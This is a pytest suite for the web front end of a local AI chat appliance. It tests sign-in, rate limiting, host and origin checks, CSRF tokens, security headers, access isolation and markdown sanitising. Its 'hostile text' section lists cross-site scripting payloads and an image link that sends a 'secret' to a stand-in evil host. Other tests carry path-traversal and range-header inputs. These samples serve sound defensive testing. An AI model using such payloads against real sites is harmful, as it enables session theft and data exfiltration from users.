"""Pages over HTTP: first start, sign-in, the outer wall, the chat without its script, sources, keys, and hostile text."""

from __future__ import annotations

import asyncio
import json
import re
import subprocess
import sys
import time
from typing import Any

import httpx
import pytest
import sqlalchemy as sa

from appliance.errors import ApplianceError, StorageFull
from appliance.tables import attempts, turns
from appliance.web.markdown import to_html
from tests.web.box import LEAVES
from tests.web.conftest import BASE, NAME, PASSWORD, csrf, events

QUESTION = "Why are leaves green?"


async def ask(person: httpx.AsyncClient, question: str, conversation: str = "") -> dict[str, Any]:
    """As the page's script does; waits for the answer."""
    form = {"question": question, "conversation": conversation}
    reply = await person.post("/chat/ask", data=form, headers={"accept": "application/json"})
    assert reply.status_code == 200, reply.text
    data: dict[str, Any] = reply.json()
    stream = await person.get(f"/chat/stream/{data['turn']}")
    assert stream.headers["content-type"].startswith("text/event-stream")
    data["events"] = events(stream.text)
    return data


# --- first start and sign-in -----------------------------------------------------------------------------------------
async def test_first_start(box: Any, visitor: httpx.AsyncClient) -> None:
    code = box.accounts.ensure_setup_code()
    page = await visitor.get("/")
    assert "One-time code" in page.text
    cookie = page.headers["set-cookie"]
    assert "HttpOnly" in cookie and "SameSite=lax" in cookie and "Secure" not in cookie
    form = {"csrf": await csrf(visitor), "code": code, "name": NAME, "password": "short"}
    reply = await visitor.post("/setup", data=form)
    assert reply.status_code == 400 and "at least 10" in reply.text
    assert f'value="{NAME}"' in reply.text and f'value="{code}"' in reply.text and "short" not in reply.text
    reply = await visitor.post("/setup", data={**form, "password": PASSWORD})
    assert reply.status_code == 303 and reply.headers["location"] == "/chat"
    assert (await visitor.get("/chat")).status_code == 200
    form["csrf"] = await csrf(visitor, "/chat")
    reply = await visitor.post("/setup", data={**form, "name": "Mr Brown", "password": PASSWORD})
    assert reply.status_code == 409, "the code works once"


async def test_sign_out_and_in(person: httpx.AsyncClient) -> None:
    assert (await person.post("/sign-out")).status_code == 303
    del person.headers["x-csrf-token"]
    assert (await person.get("/chat")).headers["location"] == "/"
    form = {"csrf": await csrf(person), "name": NAME, "password": "wrong password"}
    reply = await person.post("/sign-in", data=form)
    assert reply.status_code == 401 and "not right" in reply.text and f'value="{NAME}"' in reply.text
    reply = await person.post("/sign-in", data={**form, "password": PASSWORD})
    assert reply.status_code == 303 and "session=" in reply.headers["set-cookie"]
    assert NAME in (await person.get("/chat")).text


async def test_a_guesser_waits(box: Any, person: httpx.AsyncClient) -> None:
    await person.post("/sign-out")
    del person.headers["x-csrf-token"]
    form = {"csrf": await csrf(person), "name": NAME, "password": "wrong password"}
    with box.database.begin() as connection:
        connection.execute(sa.delete(attempts))
    answers = [(await person.post("/sign-in", data=form)).status_code for _ in range(12)]
    assert answers == [401] * 10 + [503] * 2
    reply = await person.post("/sign-in", data={**form, "password": PASSWORD})
    assert reply.status_code == 503 and "Wait" in reply.text


async def test_a_browser_that_was_signed_in_before_gets_in_whatever_others_try(
    box: Any, app: Any, person: httpx.AsyncClient
) -> None:
    await person.post("/sign-out")
    del person.headers["x-csrf-token"]
    for number in range(40):
        with pytest.raises(ApplianceError):
            box.accounts.sign_in(NAME, "wrong password", f"10.0.0.{number}")
    form = {"csrf": await csrf(person), "name": NAME, "password": PASSWORD}
    transport = httpx.ASGITransport(app)
    async with httpx.AsyncClient(transport=transport, base_url=BASE, headers={"accept": "text/html"}) as other:
        reply = await other.post("/sign-in", data={**form, "csrf": await csrf(other)})
        assert reply.status_code == 503 and "device" not in other.cookies
    mark = person.cookies["device"]
    reply = await person.post("/sign-in", data=form)
    assert reply.status_code == 303 and NAME in (await person.get("/chat")).text and person.cookies["device"] == mark
    kept = next(one for one in reply.headers.get_list("set-cookie") if one.startswith("device="))
    assert "HttpOnly" in kept and "SameSite=lax" in kept and box.accounts.named(NAME).id not in mark


async def test_cookies_behind_https(box: Any, app: Any) -> None:
    box.accounts.ensure_setup_code()
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app), base_url="https://appliance.local") as client:
        cookie = (await client.get("/")).headers["set-cookie"]
    assert cookie.startswith("__Host-visitor=") and "Secure" in cookie and "Path=/;" in cookie


# --- the outer wall --------------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "host", ["evil.example", "localhost/?", "localhost#", "localhost/..", "x@localhost", "", "8.8.8.8", "a:b"]
)
@pytest.mark.parametrize("path", ["/", "/chat", "/v1/models", "/health"])
async def test_a_foreign_host_is_refused(visitor: httpx.AsyncClient, host: str, path: str) -> None:
    reply = await visitor.get(path, headers={"host": host})
    assert reply.status_code == 400 and "name" in reply.text


async def test_two_hosts_are_refused(visitor: httpx.AsyncClient) -> None:
    reply = await visitor.get("/health", headers=[("host", "localhost"), ("host", "evil.example")])
    assert reply.status_code == 400


async def test_our_names_are_let_in(visitor: httpx.AsyncClient) -> None:
    for host in ("localhost", "127.0.0.1:8080", "[::1]:8080", "appliance.local"):
        assert (await visitor.get("/health", headers={"host": host})).json() == {"status": "ok"}


@pytest.mark.parametrize(
    "headers",
    [
        {"origin": "http://evil.example"},
        {"origin": "null"},
        {"origin": "https://localhost:8080"},
        {"origin": "http://localhost:9999"},
        {"sec-fetch-site": "cross-site"},
        {"sec-fetch-site": "same-site"},
    ],
)
async def test_another_site_changes_nothing(box: Any, person: httpx.AsyncClient, headers: dict[str, str]) -> None:
    for path in ("/chat/ask", "/keys", "/sign-out", "/v1/chat/completions"):
        reply = await person.post(path, data={"question": QUESTION, "name": "x"}, headers=headers)
        assert reply.status_code == 403, path
    assert box.pool.requests == [] and (await person.get("/chat")).status_code == 200


async def test_our_own_origin_is_let_in(person: httpx.AsyncClient) -> None:
    headers = {"origin": "http://localhost:8080", "sec-fetch-site": "same-origin"}
    assert (await person.post("/chat/ask", data={"question": QUESTION}, headers=headers)).status_code == 303


@pytest.mark.parametrize(
    "path", ["/chat/ask", "/chat/stop/x", "/chat/x/rename", "/chat/x/delete", "/keys", "/keys/x/revoke", "/sign-out"]
)
async def test_every_form_needs_its_token(box: Any, person: httpx.AsyncClient, path: str) -> None:
    for token in ("", "wrong", "é"):
        reply = await person.post(path, data={"csrf": token, "question": QUESTION, "name": "x"}, headers={"x-csrf-token": ""})
        assert reply.status_code == 403, (path, token)
    assert box.pool.requests == []


@pytest.mark.parametrize("path", ["/setup", "/sign-in"])
async def test_forms_before_sign_in_need_their_token(visitor: httpx.AsyncClient, path: str) -> None:
    assert (await visitor.post(path, data={"csrf": "", "name": NAME, "password": PASSWORD})).status_code == 403


@pytest.mark.parametrize("path", ["/chat", "/chat/x", "/library", "/keys", "/passage/12", "/document/plants", "/chat/stream/x"])
async def test_pages_need_a_person(visitor: httpx.AsyncClient, path: str) -> None:
    assert (await visitor.get(path)).headers.get("location") == "/"
    reply = await visitor.get(path, headers={"accept": "application/json"})
    assert reply.status_code == 401 and reply.json()["error"]["hint"]


async def test_nothing_changes_by_get(person: httpx.AsyncClient) -> None:
    for path in ("/sign-out", "/chat/x/delete", "/keys/x/revoke", "/chat/stop/x"):
        assert (await person.get(path)).status_code in (404, 405)


async def test_every_answer_has_the_headers(person: httpx.AsyncClient) -> None:
    for path in ("/chat", "/", "/nowhere", "/health", "/v1/models", "/static/app.css"):
        headers = (await person.get(path)).headers
        policy = headers["content-security-policy"]
        assert "default-src 'self'" in policy and "frame-ancestors 'none'" in policy and "unsafe" not in policy
        assert headers["x-content-type-options"] == "nosniff" and headers["referrer-policy"] == "same-origin"
        assert "access-control-allow-origin" not in headers


async def test_no_page_has_inline_script_or_style(person: httpx.AsyncClient) -> None:
    data = await ask(person, QUESTION)
    for path in ("/chat", data["url"], "/library", "/keys", "/about", "/passage/12", "/nowhere"):
        text = (await person.get(path)).text
        assert not re.search(r"<style|style=|<script(?![^>]+src=\"/static/)|\son\w+=|javascript:", text), path
        assert all(link.startswith(("/", "#", "data:,")) for link in re.findall(r'(?:href|src|action)="([^"]*)"', text))


async def test_large_and_odd_bodies(person: httpx.AsyncClient) -> None:
    started = time.perf_counter()
    reply = await person.post("/chat/ask", data={"question": "x" * 2_000_000})
    assert reply.status_code == 413 and "<h1 " in reply.text

    async def trickle() -> Any:
        for _ in range(40):
            yield b"question=" + b"x" * 100_000

    form = {"content-type": "application/x-www-form-urlencoded"}
    assert (await person.post("/chat/ask", content=trickle(), headers=form)).status_code in (400, 413)
    parts = {f"part{number}": (None, "x") for number in range(3000)}
    assert (await person.post("/chat/ask", files=parts)).status_code == 400
    assert (await person.post("/chat/ask", files={"question": ("a.txt", b"x")})).status_code == 400
    for kind in ("multipart/form-data", "multipart/form-data; boundary=", "\x7f/;;;", "application/json"):
        reply = await person.post("/chat/ask", content=b"--x", headers={"content-type": kind})
        assert reply.status_code == 400, kind
    for length in ("-1", "1e3", "9" * 30):
        assert (await person.post("/chat/ask", content=b"", headers={"content-length": length})).status_code == 400
    assert time.perf_counter() - started < 5


async def test_faults_are_pages_or_json(person: httpx.AsyncClient) -> None:
    page = await person.get("/nowhere")
    assert page.status_code == 404 and '<h1 dir="auto">There is no such page here.</h1>' in page.text
    reply = await person.get("/nowhere", headers={"accept": "application/json"})
    assert reply.json()["error"]["code"] == "not_found"
    for path in (
        "/passage/999",
        "/passage/99999999999999999999999",
        "/passage/x",
        "/document/x",
        "/chat/nothing",
        "/chat/stream/x",
    ):
        assert (await person.get(path)).status_code == 404, path


async def test_a_full_disk_is_told_and_the_question_is_kept(
    box: Any, person: httpx.AsyncClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    def full(*_: Any) -> None:
        raise StorageFull("The disk is full.", "Free some space, then try again.")

    monkeypatch.setattr(box.chat.conversations, "add_question", full)
    reply = await person.post("/chat/ask", data={"question": "What I <typed>"})
    assert reply.status_code == 507 and "The disk is full." in reply.text and "What I &lt;typed&gt;</textarea>" in reply.text


async def test_an_unforeseen_fault_tells_nothing(box: Any, person: httpx.AsyncClient, caplog: pytest.LogCaptureFixture) -> None:
    async def broken(_within: object) -> None:
        raise RuntimeError("what the pupil wrote")

    box.library.documents = broken
    reply = await person.get("/library")
    assert (
        reply.status_code == 500 and "pupil" not in reply.text and "pupil" not in caplog.text and "RuntimeError" in caplog.text
    )


async def test_static_files(person: httpx.AsyncClient) -> None:
    started = time.perf_counter()
    bomb = "bytes=" + ",".join(f"{number}-{number + 1}" for number in range(0, 4000, 3))
    assert (await person.get("/static/app.css", headers={"range": bomb})).status_code in (200, 206, 400, 416)
    assert time.perf_counter() - started < 0.5
    for path in ("/static/../server.py", "/static/%2e%2e/server.py", "/static/..%2fserver.py", "/static/"):
        assert (await person.get(path)).status_code == 404
    page = (await person.get("/chat")).text
    address = re.search(r"/static/app\.css\?v=\w+", page)
    assert address and "immutable" in (await person.get(address[0])).headers["cache-control"]


async def test_the_chat_page_is_light_on_the_wire(person: httpx.AsyncClient) -> None:
    """Half of the 60 kB that it may take: the bench measures the rest, in a browser."""
    page = await person.get("/chat")
    assert "content-encoding" not in page.headers, "a page holds its forms' token: its size must not tell of it"
    addresses = set(re.findall(r"/static/[\w.]+\?v=\w+", page.text))
    assert len(addresses) >= 2
    size = len(page.content)
    for address in addresses:
        async with person.stream("GET", address) as reply:
            assert reply.headers["content-encoding"] == "gzip" and "accept-encoding" in reply.headers["vary"]
            size += len(b"".join([part async for part in reply.aiter_raw()]))
        tag = reply.headers["etag"]
        assert (await person.get(address, headers={"if-none-match": tag})).status_code == 304
        plain = await person.get(address, headers={"accept-encoding": "identity"})
        assert "content-encoding" not in plain.headers and plain.headers["etag"] != tag
        part = await person.get(address, headers={"range": "bytes=0-9"})
        assert part.status_code == 206 and part.content == plain.content[:10]
        assert (await person.head(address)).content == b""
    assert size < 30_000


async def test_health_and_ready(box: Any, visitor: httpx.AsyncClient) -> None:
    assert (await visitor.get("/health")).json() == {"status": "ok"}
    assert (await visitor.get("/ready")).json()["handler"] == "llama"
    box.pool.down = True
    reply = await visitor.get("/ready")
    assert reply.status_code == 200 and (reply.json()["handler"], reply.json()["ok"]) == ("quotes", False)


# --- chat ------------------------------------------------------------------------------------------------------------
async def test_ask_with_the_script(person: httpx.AsyncClient, box: Any) -> None:
    box.pool.pace = 0.01
    data = await ask(person, QUESTION)
    kinds = [kind for kind, _ in data["events"]]
    assert kinds[0] == "turn" and kinds[-1] == "done" and "sources" in kinds and kinds.count("text") == 2  # a sentence each
    html = json.loads(data["events"][-1][1])["html"]
    assert "<strong>green</strong>" in html and 'href="/passage/12#here" data-passage="12" aria-label="Source 1">1</a>' in html
    assert "[9]" not in html and "Written by AI: green-1" in html
    assert QUESTION in data["html"] and data["url"] in data["chats"]
    page = (await person.get(data["url"])).text
    assert html.strip() in page and 'data-state="streaming"' not in page


async def test_a_stream_goes_on_where_it_was(person: httpx.AsyncClient, box: Any) -> None:
    box.pool.pace = 0.01
    reply = await person.post("/chat/ask", data={"question": QUESTION}, headers={"accept": "application/json"})
    stream = await person.get(f"/chat/stream/{reply.json()['turn']}", headers={"last-event-id": "4"})
    assert stream.text.startswith("id: 5\n") and events(stream.text)[-1][0] == "done"
    again = await person.get(f"/chat/stream/{reply.json()['turn']}", headers={"last-event-id": "not a number"})
    assert [kind for kind, _ in events(again.text)] == ["turn", "done"]


async def test_ask_without_the_script(person: httpx.AsyncClient, box: Any) -> None:
    box.pool.pace = 0.05
    reply = await person.post("/chat/ask", data={"question": QUESTION})
    assert reply.status_code == 303
    page = (await person.get(reply.headers["location"])).text
    assert 'http-equiv="refresh"' in page and 'id="stop"' in page
    stop = re.search(r'action="(/chat/stop/\w+)"', page)
    assert stop and (await person.post(stop[1])).status_code == 303
    assert "Stopped. What was written until then is kept." in (await person.get(reply.headers["location"])).text
    assert (await person.post("/chat/ask", data={"question": "  "})).status_code == 400


async def test_who_signs_out_takes_their_answer_along(person: httpx.AsyncClient, box: Any) -> None:
    box.pool.pace = 0.5
    await person.post("/chat/ask", data={"question": QUESTION})
    while not box.pool.requests:
        await asyncio.sleep(0.01)
    assert (await person.post("/sign-out")).status_code == 303
    with box.database.read() as connection:
        states = [row.state for row in connection.execute(sa.select(turns).where(turns.c.role == "assistant"))]
    assert states == ["stopped"]


async def test_the_page_uses_a_promoted_model_without_a_restart(person: httpx.AsyncClient, box: Any) -> None:
    box.pool.starter = True
    first = json.loads((await ask(person, QUESTION))["events"][-1][1])["html"]
    assert first.index(LEAVES) < first.index("For trying the box; do not rely on them.") < first.index("Leaves look")
    box.pool.model, box.pool.starter = "better-2", False
    second = json.loads((await ask(person, QUESTION))["events"][-1][1])["html"]
    assert "Written by AI: better-2" in second and "starter" not in second
    box.pool.model = None
    third = json.loads((await ask(person, QUESTION))["events"][-1][1])["html"]
    assert LEAVES in third and "No language model wrote this." in third


async def test_a_fault_in_an_answer_is_shown_with_what_to_do(person: httpx.AsyncClient, box: Any) -> None:
    box.pool.breaks_after = 2
    html = json.loads((await ask(person, QUESTION))["events"][-1][1])["html"]
    assert "stopped in the middle" in html and "Ask again." in html and "Leaves look" in html


async def test_another_persons_chat_is_not_there(person: httpx.AsyncClient, box: Any) -> None:
    local = box.accounts.local_administrator()
    turn = (await box.chat.start(local, "A secret of mine")).data
    for path in (f"/chat/{turn['conversation']}", f"/chat/stream/{turn['turn']}"):
        reply = await person.get(path)
        assert reply.status_code == 404 and "secret" not in reply.text
    for path in (f"/chat/stop/{turn['turn']}", f"/chat/{turn['conversation']}/delete", f"/chat/{turn['conversation']}/rename"):
        assert (await person.post(path, data={"title": "x"})).status_code == 404
    form = {"question": QUESTION, "conversation": turn["conversation"]}
    assert (await person.post("/chat/ask", data=form)).status_code == 404
    assert box.chat.conversations.load(local, turn["conversation"])[0].title == "A secret of mine"


async def test_rename_and_delete(person: httpx.AsyncClient) -> None:
    url = (await ask(person, QUESTION))["url"]
    await person.post(f"{url}/rename", data={"title": "<Leaves>"})
    assert "&lt;Leaves&gt;" in (await person.get("/chat")).text
    reply = await person.post(f"{url}/rename", data={"title": "  "})
    assert reply.status_code == 400 and "The new name is empty." in reply.text
    away = (await person.post(f"{url}/delete")).headers["location"]
    assert away.startswith("/chat?deleted=") and (await person.get(url)).status_code == 404


# --- sources, library, keys ------------------------------------------------------------------------------------------
async def test_a_source_opens_at_its_passage(person: httpx.AsyncClient) -> None:
    page = (await person.get("/passage/12")).text
    assert f'<mark class="passage here" id="here" tabindex="-1">{LEAVES}</mark>' in page and "In autumn" in page
    part = (await person.get("/passage/12?part=1")).text
    assert "<html" not in part and LEAVES in part and 'href="/passage/12#here"' in part
    assert "Photosynthesis" in (await person.get("/library")).text
    for start in ("0", "2", "99999", "-1", "x", "²"):
        assert (await person.get("/document/plants", params={"from": start})).status_code == 200


async def test_keys_are_shown_once(person: httpx.AsyncClient, box: Any) -> None:
    page = await person.post("/keys", data={"name": "Moodle", "scope": "chat"})
    key = re.search(r"sk-school-[\w-]{43}", page.text)
    assert key and box.accounts.key(key[0])
    listed = (await person.get("/keys")).text
    assert "sk-school-" not in listed and "Moodle" in listed
    revoke = re.search(r"/keys/\w+/revoke", listed)
    assert revoke and (await person.post(revoke[0])).status_code == 303
    assert box.accounts.key(key[0]) is None and "taken back" in (await person.get("/keys")).text
    assert (await person.post("/keys", data={"name": "", "scope": "chat"})).status_code == 400
    assert (await person.post("/keys", data={"name": "x", "scope": "root"})).status_code == 400


async def test_about_says_what_answers(person: httpx.AsyncClient) -> None:
    assert "Green model" in (await person.get("/about")).text


# --- hostile text ----------------------------------------------------------------------------------------------------
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "![x](https://evil.example/?q=secret)",
    "![x](data:image/svg+xml;base64,AAAA)",
    "[x](javascript:alert(1))",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](https://evil.example)",
    "[x][1]\n\n[1]: https://evil.example",
    "<https://evil.example>",
    "https://evil.example",
    '[x](/a "onmouseover=alert(1)")',
    '<a href="/x" class="cite" data-passage="99">1</a>',
    "<math><mtext><table><mglyph><style><!--</style><img title=--&gt;&lt;img src=1 onerror=alert(1)&gt;>",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "<!-- <script> -->",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "x" * 20000 + "[" * 2000,
    "> " * 500 + "x",
    "**" * 2000,
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_is_harmless(text: str) -> None:
    started = time.perf_counter()
    html = str(to_html(text, [{"id": 12}]))
    tags = re.findall(r"<\s*/?\s*([a-zA-Z!]+)([^>]*)>", html)
    assert not {name.lower() for name, _ in tags} & {"script", "img", "svg", "math", "style", "iframe", "form", "input", "!"}
    assert not any(re.search(r"\son\w+=|style=", attributes) for _, attributes in tags)
    assert all(re.match(r"/(?![/\\])|#", link) for link in re.findall(r'href="([^"]*)"', html))
    assert not re.search(r'<a[^>]+data-passage="99"', html)
    assert time.perf_counter() - started < 2


async def test_hostile_model_and_document(person: httpx.AsyncClient, box: Any) -> None:
    box.pool.answer = " ".join(HOSTILE[:16])
    data = await ask(person, "Tell me of evil <script>alert(2)</script>")
    passage = await person.get("/passage/31?part=1")
    pages = [data["html"], data["chats"], json.loads(data["events"][-1][1])["html"], passage.text]
    for path in (data["url"], "/chat", "/library", "/passage/31"):
        pages.append((await person.get(path)).text)
    for page in pages:
        assert not re.search(r"<script>|<svg|<img|<b>title|href=\"(?!/|#|data:,)|\son\w+=\"", page), page


def test_the_web_process_holds_no_model() -> None:
    code = "import sys, appliance.web.server; print([m for m in ('torch', 'transformers', 'llama_cpp') if m in sys.modules])"
    assert subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout == "[]\n"
